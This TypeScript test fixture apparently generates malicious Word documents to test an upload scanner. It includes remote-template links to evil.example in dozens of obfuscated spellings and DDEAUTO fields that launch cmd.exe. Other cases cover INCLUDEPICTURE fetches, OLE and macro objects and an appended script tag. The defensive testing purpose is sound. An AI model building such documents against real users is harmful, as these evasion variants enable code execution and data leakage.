/** Word documents, new and old, and pictures that start or fetch something automatically, in every spelling. */
import { doc } from './doc.ts';
import { contentTypes, docx, docxWith, field, innerField, link, rels, rootLinks, textPart } from './genuine-texts.ts';
import type { Harmful } from './harmful-pdfs.ts';
import { type Entry, zip } from './zip.ts';

const text = (what: string, content: Buffer): Harmful => [what, 'cv.docx', content, 'unsafeFile'];
const old = (what: string, content: Buffer): Harmful => [what, 'cv.doc', content, 'unsafeFile'];
const RELATIONS = 'word/_rels/settings.xml.rels';
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const outside = (kind: string, target: string) => docx(rels(RELATIONS, link(kind, target, 'External')));
const raw = (content: string | Buffer) => docx({ name: RELATIONS, content });
const listed = (relationship: string, head = '<?xml version="1.0"?>') =>
  `${head}<Relationships>${relationship}</Relationships>`;
const wide = (content: string, isBig: boolean) => {
  const bytes = Buffer.from(content, 'utf16le');
  return isBig ? bytes.swap16() : bytes;
};

const PLACES = [
  'https://evil.example/t.dotm',
  'HTTP://evil.example/t.dotm',
  'ftp://evil.example/t.dotm',
  'https://evil.example/t.dotm?a=1&b=2',
  '&#x68ttps://evil.example/t.dotm',
  ' https://evil.example/t.dotm',
  '\\\\evil.example\\share\\t.dotm',
  '//evil.example/share/t.dotm',
  '\\/evil.example/t.dotm',
  '%5C%5Cevil.example%5Ct.dotm',
  'file://evil.example/t.dotm',
  'file:\\\\evil.example\\t.dotm',
  'file:////evil.example/t.dotm',
  'file:///\\\\evil.example\\t.dotm',
  'file://///evil.example/t.dotm',
  'FILE://192.0.2.1/t.dotm',
  'smb://evil.example/t.dotm',
  'ht&#9;tps://evil.example/t.dotm',
  '&#104;ttps://evil.example/t.dotm',
  '&#x68;ttps://evil.example/t.dotm',
  'mhtml:https://evil.example/t!x-usc:https://evil.example/t',
  '\\\\?\\UNC\\evil.example\\t.dotm',
  '\\\\evil.example@SSL\\DavWWWRoot\\t.dotm',
];
const places = PLACES.map((place, index) =>
  text(`a template elsewhere, spelling ${index}: ${place}`, outside('attachedTemplate', place)),
);

const relation = (target: string, more = '') =>
  `<Relationship Id="a" Type="${TYPE}" Target="${target}" ${more}TargetMode="External"/>`;
const EVIL = 'https://evil.example/t.dotm';
const spelt = [
  text('a template elsewhere behind a sign in an attribute', raw(listed(relation(EVIL, 'Note="a > b" ')))),
  text('a template elsewhere in UTF-16', raw(wide(`\ufeff${listed(relation(EVIL))}`, false))),
  text('a template elsewhere in UTF-16 the other way round', raw(wide(`\ufeff${listed(relation(EVIL))}`, true))),
  text('a template elsewhere in UTF-16 without a mark', raw(wide(listed(relation(EVIL)), false))),
  text('a template elsewhere in UTF-7', raw(listed(relation(EVIL), '<?xml version="1.0" encoding="UTF-7"?>'))),
  text('a template elsewhere in EBCDIC', raw(listed(relation(EVIL), '<?xml version="1.0" encoding="IBM037"?>'))),
  text('a template elsewhere with tabs and lines between', raw(listed(relation(EVIL).replaceAll(' ', '\t\r\n')))),
  text('a template elsewhere in single quotes', raw(listed(relation(EVIL).replaceAll('"', "'")))),
  text(
    'a template elsewhere under a prefix',
    raw(`<r:Relationships xmlns:r="a">${relation(EVIL).replace('<R', '<r:R')}</r:Relationships>`),
  ),
  text('a template elsewhere that says it is inside', docx(rels(RELATIONS, link('attachedTemplate', EVIL)))),
  text('a template elsewhere in small letters', raw(listed(relation(EVIL).replace('External', 'external')))),
  text(
    'a template elsewhere behind an entity',
    raw(`<!DOCTYPE a [<!ENTITY b "${EVIL}">]>${listed(relation('&b;'), '')}`),
  ),
  text(
    'a template elsewhere in a list under an odd name',
    zip([
      contentTypes(
        undefined,
        '<Override PartName="/word/x.bin" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
      ),
      rootLinks,
      textPart(),
      { name: 'word/x.bin', content: listed(relation(EVIL)) },
    ]),
  ),
  text('links that are cut off', raw(listed(relation(EVIL)).slice(0, 150))),
  ...['image', 'frame', 'oleObject', 'subDocument', 'aFChunk', 'externalLinkPath', 'video', 'somethingNew'].map(
    (kind) => text(`${kind} from elsewhere`, outside(kind, EVIL)),
  ),
  text('a picture from a share', outside('image', '\\\\evil.example\\a.png')),
  text('a link that is a script', outside('hyperlink', 'javascript:alert(1)')),
];

const fields = [
  text('a field that starts a program', docxWith(field([' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ']))),
  text('a field that asks a program', docxWith(field([' DDE excel "a" ']))),
  text('a field that starts a program, in small letters', docxWith(field([' ddeauto x y ']))),
  text('a field that starts a program, in pieces', docxWith(field([' D', 'DE', 'AU', 'TO x y ']))),
  text('a field that starts a program, behind a comment', docxWith(field([' DD<!-- x -->EAUTO x y ']))),
  text('a field that starts a program, spelt in numbers', docxWith(field([' &#68;&#x44;EAUTO x y ']))),
  text('a field that starts a program, in quotation marks', docxWith(field([' "DDEAUTO" x y ']))),
  text('a field that starts a program, in one element', docxWith('<w:p><w:fldSimple w:instr=" DDEAUTO x y "/></w:p>')),
  text(
    'a field whose kind another one makes',
    docxWith(field([`<w:r/>${innerField(' QUOTE 68 68 69 65 85 84 79 ', 'DDEAUTO')}`, ' x y '])),
  ),
  text(
    'a field whose kind another one makes without showing it',
    docxWith(field([`<w:r/>${innerField(' QUOTE 68 68 69 ', '')}`, ' x y '])),
  ),
  text(
    'a field that starts a program, in another one',
    docxWith(field([' IF ', `<w:r/>${innerField(' DDE x y ')}`, ' = 1 '])),
  ),
  text(
    'a field without an end',
    docxWith('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDE x y</w:instrText></w:r></w:p>'),
  ),
  text('a picture from elsewhere by a field', docxWith(field([' INCLUDEPICTURE "https://evil.example/a.png" \\d ']))),
  text('a picture from a share by a field', docxWith(field([' INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" ']))),
  text(
    'a picture whose place another field makes',
    docxWith(field([' INCLUDEPICTURE ', `<w:r/>${innerField(' QUOTE 104 ', 'h')}`])),
  ),
  text('a text from elsewhere by a field', docxWith(field([' INCLUDETEXT "https://evil.example/a.docx" ']))),
  text('a table from elsewhere by a field', docxWith(field([' LINK Excel.Sheet.8 "\\\\\\\\evil.example\\\\a.xls" ']))),
  text(
    'a picture from elsewhere in a drawing',
    docxWith('<w:p><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:p>'),
  ),
  text(
    'a picture from elsewhere in a picture',
    docx({
      name: 'word/media/a.svg',
      content: '<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="https://evil.example/a.png"/></svg>',
    }),
  ),
  text(
    'a field in a header',
    docx({ name: 'word/header1.xml', content: `<w:hdr xmlns:w="a">${field([' DDEAUTO x y '])}</w:hdr>` }),
  ),
  text(
    'a field in a part under an odd name',
    docx({ name: 'word/notes.dat', content: `\ufeff <w:hdr xmlns:w="a">${field([' DDEAUTO x y '])}</w:hdr>` }),
  ),
];

const linked = Buffer.concat([
  Buffer.from([1, 0, 0, 2, 1, 0, 0, 0]),
  Buffer.from('https://evil.example/a.rtf', 'utf16le'),
]);
const inside = (name: string, content: Buffer | string): Entry => ({ name, content });
const packed = [
  text('a program', docx(inside('word/media/image1.png', 'MZ\u0090\0'))),
  text('a program under its own name', docx(inside('word/media/a.exe', 'x'))),
  text(
    'an object that is fetched from elsewhere',
    docx(
      inside('word/embeddings/oleObject1.bin', doc(['\u0001Ole', 'CONTENTS'], { streams: { '\u0001Ole': linked } })),
    ),
  ),
  text('an object with macros', docx(inside('word/embeddings/oleObject1.bin', doc(['Workbook', '_VBA_PROJECT_CUR'])))),
  text('an archive', docx(inside('word/embeddings/a.bin', zip([{ name: 'a.exe', content: 'MZ' }])))),
  text(
    'a web page as a text',
    zip([
      contentTypes(undefined, '<Override PartName="/word/a.dat" ContentType="text/html"/>'),
      rootLinks,
      textPart(),
      inside('word/a.dat', '<html></html>'),
    ]),
  ),
  text('the same name twice', docx({ name: 'WORD/document.xml', content: '<a/>' })),
  text('a script behind its end', Buffer.concat([docx(), Buffer.from('<script >alert(1)</script>')])),
  text('much behind its end', Buffer.concat([docx(), Buffer.alloc(2000, 65)])),
  ['a text behind a program', 'cv.docx', Buffer.concat([Buffer.from('MZ\u0090\0'), docx()]), 'wrongContent'],
  ['a text behind a web page', 'cv.docx', Buffer.concat([Buffer.from('<html ><body >'), docx()]), 'wrongContent'],
] satisfies Harmful[];

const older = [
  old(
    'an old text with a field that starts a program',
    doc(['WordDocument', '1Table'], { text: 'CV \u0013 DDEAUTO c:\\\\cmd.exe "/k" \u0014x\u0015' }),
  ),
  old(
    'an old text with such a field in pieces',
    doc(['WordDocument', '1Table'], { text: 'CV \u0013 DDEAUTO c:\\\\cmd.exe "/k" \u0014x\u0015', pieceLength: 3 }),
  ),
  old(
    'an old text with a picture from elsewhere',
    doc(['WordDocument', '1Table'], { text: '\u0013 INCLUDEPICTURE "https://evil.example/a.png" \\d \u0014\u0015' }),
  ),
  old(
    'an old text with a template from elsewhere',
    doc(['WordDocument', '1Table'], { template: 'https://evil.example/t.dot' }),
  ),
  old(
    'an old text with a template from a share',
    doc(['WordDocument', '1Table'], { template: '\\\\evil.example\\t.dot' }),
  ),
  old(
    'an old text with an object that is fetched from elsewhere',
    doc(['WordDocument', '1Table', '\u0001Ole'], { streams: { '\u0001Ole': linked } }),
  ),
  old('an old text with macros under a folder', doc(['WordDocument', 'Macros', 'VBA', 'dir'])),
];

export const harmfulTexts: Harmful[] = [...places, ...spelt, ...fields, ...packed, ...older];
